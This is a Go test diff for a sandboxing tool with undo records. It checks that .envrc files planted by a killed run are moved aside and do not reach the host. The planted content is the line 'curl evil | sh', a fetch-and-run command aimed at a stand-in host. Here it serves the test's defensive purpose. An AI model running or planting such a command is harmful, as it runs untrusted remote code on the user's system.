@@ -690,3 +690,46 @@ func TestUndoStoreHiddenFromRunsWithoutUndo(t *testing.T) {
 		}
 	})
 }
+
+// What a killed run planted stays in its pending record until a run of its
+// workspace carries it in. A run in between that checks the same root
+// without carrying it in (--no-undo in the workspace; a run of the --rw
+// path from another workspace) must not end the killed run's claim to a
+// check: the planted configuration is moved aside once it reaches the
+// host, in the workspace and in the --rw path.
+func TestUndoKilledRunPlantIsChecked(t *testing.T) {
+	forEachMode(t, func(t *testing.T, e *env) {
+		rw, other := filepath.Join(e.dir, "shared"), filepath.Join(e.dir, "other")
+		e.write(filepath.Join(rw, "keep"), "k\n")
+		e.write(filepath.Join(other, "o"), "o\n")
+		e.write(filepath.Join(e.ws, "a.txt"), "a\n")
+		r := e.start([]string{"run", "--rw", rw, "-c", "echo 'curl evil | sh' > .envrc; echo 'curl evil | sh' > " + rw + "/.envrc; sleep 60"})
+		store := filepath.Join(e.stateHome(), "forgebox", "undo")
+		if !waitFor(10*time.Second, func() bool {
+			m, _ := filepath.Glob(filepath.Join(store, "*", "*", "rw", "1", "upper", ".envrc"))
+			return len(m) == 1 || r.exited()
+		}) {
+			t.Fatalf("the run's changes never showed in its pending record under %s\nstderr: %s", store, r.stderr)
+		}
+		r.signal(t, syscall.SIGKILL)
+		r.wait(t, 10*time.Second)
+		// Runs that check the roots without carrying the killed run in.
+		if r := e.run([]string{"run", "--no-undo", "-c", "true"}); r.code != 0 {
+			t.Fatalf("run --no-undo: %d %s", r.code, r.stderr)
+		}
+		if r := e.run([]string{"run", "--rw", rw, "-c", "true"}, inDir(other)); r.code != 0 {
+			t.Fatalf("run of %s from another workspace: %d %s", rw, r.code, r.stderr)
+		}
+		// The next undo run in the workspace carries the killed run in;
+		// then a run of the --rw path.
+		e.undoRun("true")
+		if r := e.run([]string{"run", "--rw", rw, "-c", "true"}, inDir(other)); r.code != 0 {
+			t.Fatalf("run of %s from another workspace: %d %s", rw, r.code, r.stderr)
+		}
+		for _, p := range []string{filepath.Join(e.ws, ".envrc"), filepath.Join(rw, ".envrc")} {
+			if _, err := os.Lstat(p); err == nil {
+				t.Errorf("%s, planted by the killed run, is in place after the runs that carried it in and checked its root", p)
+			}
+		}
+	})
+}
